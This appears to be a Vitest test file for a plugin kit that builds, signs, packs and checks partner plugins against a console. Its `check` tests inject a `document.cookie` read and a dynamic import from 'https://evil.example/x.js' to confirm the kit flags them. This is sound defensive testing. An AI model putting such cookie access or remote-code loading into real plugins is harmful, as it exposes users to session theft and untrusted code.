import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { isAllowed } from '../../host/kit/licences.ts';
import { declaredPaths, namesOf } from '../../host/kit/call-names.ts';
import { createPlugin } from '../../host/kit/create-plugin.ts';
import { runKit } from '../../host/kit/main.ts';
import type { PluginPackage, SharedModules } from '../../sdk/package/index.ts';
import { sharedSpecifiers, verifyArchive } from '../../sdk/package/index.ts';
import { root } from '../architecture/source-files.ts';

// Inside the project, where the kit's packages are found; never in git.
const cache = join(root, 'node_modules/.cache/freightdeck');
/** What the console says of its own calls. */
let described: object = {};
let folder: string;
let host: Server;
let shared: SharedModules;
const here = process.cwd();
beforeAll(async () => {
  mkdirSync(cache, { recursive: true });
  folder = mkdtempSync(join(cache, 'kit-'));
  host = createServer(({ url }, answer) => {
    answer.end(JSON.stringify(url === '/api/openapi.json' ? { paths: described } : shared));
  });
  await new Promise<void>((done) => {
    host.listen(0, '127.0.0.1', done);
  });
});
afterAll(() => {
  process.chdir(here);
  rmSync(folder, { recursive: true, force: true });
  host.close();
});
const address = (): string => `http://127.0.0.1:${(host.address() as AddressInfo).port}/`;
async function kit(...args: readonly string[]): Promise<{ readonly code: number; readonly said: string }> {
  const said: string[] = [];
  return {
    code: await runKit(args, (line) => {
      said.push(line);
    }),
    said: said.join('\n'),
  };
}
const listOf = (plugin: string): PluginPackage =>
  JSON.parse(readFileSync(join(plugin, 'dist/plugin.json'), 'utf8')) as PluginPackage;
/** A console that has just what this plugin imports. */
const fitting = ({ imports }: PluginPackage): SharedModules => ({
  sdk: '1.0.0',
  modules: Object.fromEntries(Object.entries(imports).map(([name, exports]) => [name, { url: '/x.js', exports }])),
});

test("the guide's own commands make a signed plugin that a console takes", async () => {
  const [, block = ''] = /```sh\n([\s\S]*?)```/.exec(readFileSync(join(root, 'docs/partner-plugins.md'), 'utf8')) ?? [];
  const lines = block
    .trim()
    .split('\n')
    .map((line) => [...line.matchAll(/"([^"]*)"|(\S+)/g)].map(([, quoted, plain]) => quoted ?? plain ?? ''));
  expect(lines.map(([program, command]) => `${program} ${command}`)).toEqual(
    ['create', 'key', 'build', 'check', 'pack'].map((command) => `freightdeck-plugin ${command}`),
  );
  process.chdir(folder);
  let publicKey = '';
  for (const [, ...args] of lines) {
    if (args[0] === 'check') shared = fitting(listOf('acme-quotes'));
    const { code, said } = await kit(...args.map((word) => (word.startsWith('http:') ? address() : word)));
    expect(code, said).toBe(0);
    if (args[0] === 'key') publicKey = said;
  }
  const taken = verifyArchive(new Uint8Array(readFileSync('acme-quotes.zip')), shared);
  expect([taken.plugin.manifest.id, taken.plugin.manifest.title, taken.publicKey]).toEqual([
    'acme-quotes',
    { zh: '运价试算', en: 'Freight quotes' },
    publicKey,
  ]);
  expect(Object.keys(taken.imports).every((name) => Object.values(sharedSpecifiers).includes(name))).toBe(true);
  expect(
    taken.plugin.files.map(({ path }) => path).every((path) => /-[\w-]{8}\.js$/.test(path)),
    'names carry the hash of their content',
  ).toBe(true);
});

test('a plugin is packed without a signature on purpose only', async () => {
  const plugin = join(folder, 'open-quotes');
  createPlugin(plugin, {});
  expect((await kit('build', plugin)).code).toBe(0);
  const out = join(folder, 'open-quotes.zip');
  expect((await kit('pack', plugin, '--out', out)).code).toBe(2);
  expect((await kit('pack', plugin, '--unsigned', '--key', 'any.pem', '--out', out)).code).toBe(2);
  expect(await kit('pack', plugin, '--unsigned', '--out', out)).toEqual({ code: 0, said: out });
  const taken = verifyArchive(new Uint8Array(readFileSync(out)), fitting(listOf(plugin)));
  expect([taken.plugin.manifest.id, taken.publicKey]).toEqual(['open-quotes', undefined]);
});

test('fire has the console tell what dev serves, and says what was sent and answered', async () => {
  const asked: unknown[] = [];
  let answer: object = {};
  const console = createServer((request, response) => {
    void request.toArray().then((parts) => {
      asked.push([request.url, JSON.parse(Buffer.concat(parts as Buffer[]).toString())]);
      response.end(JSON.stringify(answer));
    });
  });
  await new Promise<void>((done) => {
    console.listen(0, '127.0.0.1', done);
  });
  const at = ['--host', `http://127.0.0.1:${(console.address() as AddressInfo).port}/`, '--port', '5178'];
  const data = join(folder, 'event.json');
  writeFileSync(data, '{"recordId":"01TRIP"}');
  answer = { status: 200, data: { path: 'signed', body: { id: '1' }, answer: { status: 200 } } };
  expect(await kit('fire', 'waybill.sign', '--data', data, ...at)).toEqual({
    code: 0,
    said: 'POST signed {"id":"1"}\nAnswered: status 200, taken',
  });
  answer = { status: 200, data: { path: 'signed', body: { id: '1' }, answer: { status: 409 } } };
  expect(await kit('fire', 'nightly', '--platform', '10002', ...at)).toMatchObject({ code: 1 });
  answer = { status: 404, reason: 'notFound' };
  expect((await kit('fire', 'daily', ...at)).said).toBe('daily is neither a command that it hears nor one of its jobs');
  expect(asked).toEqual([
    ['/api/partner-fire/5178', { name: 'waybill.sign', platform: '10001', data: { recordId: '01TRIP' } }],
    ['/api/partner-fire/5178', { name: 'nightly', platform: '10002', data: {} }],
    ['/api/partner-fire/5178', { name: 'daily', platform: '10001', data: {} }],
  ]);
  console.close();
});

test('the texts of a built plugin are parsed already: no browser parses ICU text', async () => {
  const plugin = join(folder, 'read-quotes');
  createPlugin(plugin, {});
  expect((await kit('build', plugin)).code).toBe(0);
  const code = listOf(plugin).files.map(({ path }) => readFileSync(join(plugin, 'dist', path), 'utf8'));
  expect(code.join('\n')).toMatch(/tile\.count"?:\s*\[\{\s*"?type"?:\s*6/);
  expect(code.join('\n')).not.toContain('plural, one');
});

test('the guide shows the verification of a token as the kit gives it', () => {
  const [, block] = /```js\n([\s\S]*?)```/.exec(readFileSync(join(root, 'docs/partner-plugins.md'), 'utf8')) ?? [];
  expect(readFileSync(join(root, 'host/kit/template/server/verify-token.js'), 'utf8')).toContain(block);
});

describe('check names what a console would refuse', () => {
  /** A plugin of its own with something changed in it, built, and what `check` says of it. */
  async function checked(id: string, change: (plugin: string) => void, less?: string): Promise<string> {
    const plugin = join(folder, id);
    createPlugin(plugin, {});
    change(plugin);
    const built = await kit('build', plugin);
    if (built.code !== 0) return built.said;
    shared = fitting(listOf(plugin));
    if (less !== undefined)
      shared = {
        ...shared,
        modules: Object.fromEntries(
          Object.entries(shared.modules).map(([name, one]) => [
            name,
            { ...one, exports: one.exports.filter((each) => `${name}#${each}` !== less) },
          ]),
        ),
      };
    const { code, said } = await kit('check', plugin, '--host', address());
    expect(code).toBe(said.includes('it links') ? 0 : 1);
    return said;
  }
  test('of several consoles the one that would refuse', async () => {
    expect(await checked('two-hosts', () => undefined)).toContain('it links');
    const older = join(folder, 'older.json');
    writeFileSync(
      older,
      JSON.stringify({ ...shared, modules: { ...shared.modules, 'react@19': { url: '/x.js', exports: [] } } }),
    );
    const { code, said } = await kit('check', join(folder, 'two-hosts'), '--host', address(), '--host', older);
    expect([code, said.split('\n').length]).toEqual([1, 1]);
    expect(said).toMatch(/^exportMissing: react@19#\w+.* \(.*older\.json\)$/);
  });
  const edit =
    (file: string, from: string, to: string) =>
    (plugin: string): void => {
      const text = readFileSync(join(plugin, file), 'utf8');
      expect(text).toContain(from);
      writeFileSync(join(plugin, file), text.replace(from, to));
    };
  const store = 'web/stores/quote-book.ts';

  test('nothing, of a plugin as it was made', async () => {
    expect(await checked('good-one', () => undefined)).toContain('it links');
  });
  test('a text in one language', async () => {
    expect(await checked('text-less', edit('locales/en.json', '"field.id": "No.",', ''))).toBe(
      'messageMissing: en: field.id',
    );
  });
  test('a text that is no ICU message: the build names its file and its id', async () => {
    expect(await checked('text-torn', edit('locales/en.json', 'other {# quotes}}', 'other {# quotes}'))).toMatch(
      /locales\/en\.json: "tile\.count" is no ICU message/,
    );
  });
  test('an export the console has not', async () => {
    expect(await checked('export-less', () => undefined, 'react@19#useState')).toBe('exportMissing: react@19#useState');
  });
  test('a library that brings what must exist once', async () => {
    expect(
      await checked('with-axios', (plugin) => {
        edit(
          store,
          'import { makeAutoObservable }',
          "import axios from 'axios';\nimport { makeAutoObservable }",
        )(plugin);
        edit(store, 'this.quotes = [', 'void axios.get("/"); this.quotes = [')(plugin);
      }),
    ).toBe('sharedBundled: axios');
  });
  test("a call that the manifest does not serve, or of somebody else's service", async () => {
    expect(await checked('not-served', edit('plugin.ts', "rate: 'not-served.book:view',", ''))).toBe(
      'pathUnserved: /api/partner/not-served/rate',
    );
    expect(
      await checked(
        'of-others',
        edit('contract/rate.ts', '/api/partner/of-others/rate', '/api/partner/other-plugin/rate'),
      ),
    ).toBe('pathUnserved: /api/partner/other-plugin/rate');
    expect(
      await checked('key-less', edit('plugin.ts', "rate: 'key-less.book:view'", "rate: 'key-less.book:sell'")),
    ).toBe('manifestWrong: plugin.ts: serves.rate (key-less.book:sell)');
  });
  test('a permission key whose code has no words, which whoever consents would read bare', async () => {
    expect(
      await checked(
        'bare-keys',
        edit('plugin.ts', "'bare-keys.book': ['view', 'add']", "'bare-keys.book': ['view', 'add', 'giveBack']"),
      ),
    ).toBe('wordsMissing: plugin.ts: codes.giveBack (bare-keys.book:giveBack)');
  });
  test('a call of the platform that the manifest does not declare, by the name that the console knows it under', async () => {
    const asks = (id: string) => edit('contract/rate.ts', `/api/partner/${id}/rate`, '/api/bank/bankCard/paging');
    expect(
      await checked('asks-cards', (plugin) => {
        asks('asks-cards')(plugin);
        edit('plugin.ts', "  calls: { waybill: 'read' },\n", '')(plugin);
      }),
    ).toBe('callUndeclared: /api/bank/bankCard/paging');
    described = {
      '/api/bank/bankCard/paging': { post: { operationId: 'bankCard.paging' } },
      '/api/waybill/sign': { post: { operationId: 'waybill.sign' } },
    };
    expect(await checked('reads-cards', asks('reads-cards'))).toBe(
      'callUndeclared: bankCard (/api/bank/bankCard/paging)',
    );
    expect(
      await checked('says-cards', (plugin) => {
        asks('says-cards')(plugin);
        edit('plugin.ts', 'calls: {', "calls: { bankCard: 'read',")(plugin);
      }),
    ).toMatch(/^Nothing found/);
    expect(await checked('hears-paint', edit('plugin.ts', "'waybill.sign': ", "'waybill.paint': "))).toBe(
      'hearsUnknown: waybill.paint',
    );
    described = {};
  });
  test('and `dev` knows the paths of what is declared, as the console names them', async () => {
    described = {
      '/api/bank/bankCard/paging': { post: { operationId: 'bankCard.paging' } },
      '/api/bank/bankCard/add': { post: { operationId: 'bankCard.add' } },
    };
    const names = await namesOf(address());
    described = {};
    expect(declaredPaths(names ?? new Map(), { 'bankCard.add': 'do' })).toEqual(['/api/bank/bankCard/add']);
    expect(declaredPaths(names ?? new Map(), { bankCard: 'read' })).toContain('/api/bank/bankCard/paging');
    expect(declaredPaths(names ?? new Map())).toEqual([]);
    expect(await namesOf('http://127.0.0.1:9/')).toBeUndefined();
  });
  test('forbidden code', async () => {
    expect(await checked('with-cookie', edit(store, 'this.quotes = [', 'document.cookie; this.quotes = ['))).toMatch(
      /^forbiddenCode: cookie/,
    );
  });
  test('code from elsewhere', async () => {
    expect(
      await checked(
        'from-afar',
        edit(store, 'this.quotes = [', 'void import(/* @vite-ignore */ "https://evil.example/x.js"); this.quotes = ['),
      ),
    ).toBe('foreignOrigin: https://evil.example/x.js');
  });
  test('more bytes than it may have', async () => {
    expect(
      await checked(
        'too-fat',
        edit(store, 'this.quotes = [', `document.title = ${JSON.stringify('x'.repeat(600_000))}; this.quotes = [`),
      ),
    ).toMatch(/^overBudget: 6\d{5} > 500000$/);
  });
  test('a library whose licence does not let it be given to others', async () => {
    expect(
      await checked('with-lib', (plugin) => {
        const library = join(plugin, 'node_modules/left-fence');
        mkdirSync(library, { recursive: true });
        writeFileSync(
          join(library, 'package.json'),
          JSON.stringify({
            name: 'left-fence',
            version: '1.0.0',
            type: 'module',
            main: 'index.js',
            license: 'AGPL-3.0-only',
          }),
        );
        writeFileSync(join(library, 'index.js'), 'export const fence = (text) => `|${text}`;');
        edit(
          store,
          'import { makeAutoObservable }',
          "import { fence } from 'left-fence';\nimport { makeAutoObservable }",
        )(plugin);
        edit(store, 'this.quotes = [', 'document.title = fence("x"); this.quotes = [')(plugin);
      }),
    ).toBe('licence: left-fence (AGPL-3.0-only)');
    expect(
      [
        'MIT',
        '(MIT OR GPL-3.0)',
        'MIT AND ISC',
        '(MIT OR GPL-3.0) AND (ISC AND 0BSD)',
        'MIT AND GPL-3.0',
        'GPL-3.0',
        '',
        'MIT ISC',
        'SEE LICENSE IN x',
      ].map(isAllowed),
    ).toEqual([true, true, true, true, false, false, false, false, false]);
  });
  test('a manifest with a name that is not its own', async () => {
    expect(await checked('not-mine', edit('plugin.ts', "path: '/partner/not-mine/book'", "path: '/home'"))).toMatch(
      /^manifestWrong: plugin\.ts: routes\.not-mine\.book\.path/,
    );
  });
});

describe('the suite every plugin keeps to', () => {
  test('is kept by a plugin as it was made', async () => {
    const plugin = join(folder, 'keeps-all');
    createPlugin(plugin, {});
    const { code, said } = await kit('test', plugin);
    expect(said).toMatch(/Tests {2}32 passed/);
    expect(code).toBe(0);
  }, 120_000);
  test('names a text that is nowhere, and what setup leaves behind', async () => {
    const plugin = join(folder, 'keeps-none');
    createPlugin(plugin, {});
    const change = (file: string, from: string, to: string): void =>
      writeFileSync(join(plugin, file), readFileSync(join(plugin, file), 'utf8').replace(from, to));
    change('web/pages/quotes.tsx', "{text('title')}", "{text('gone')}");
    change(
      'web/index.ts',
      'setup: (context) => context',
      "setup: (context) => { window.addEventListener('resize', () => undefined); context",
    );
    change('web/index.ts', 'new QuoteBook()),', 'new QuoteBook()); },');
    const { code, said } = await kit('test', plugin);
    expect(code).toBe(1);
    expect(said).toMatch(/× .*in zh > page keeps-none\.book/);
    expect(said).toContain('keeps-none.gone');
    expect(said).toMatch(/× .*setup asks nobody/);
    expect(said).toMatch(/"listeners": 1/);
  }, 120_000);
});
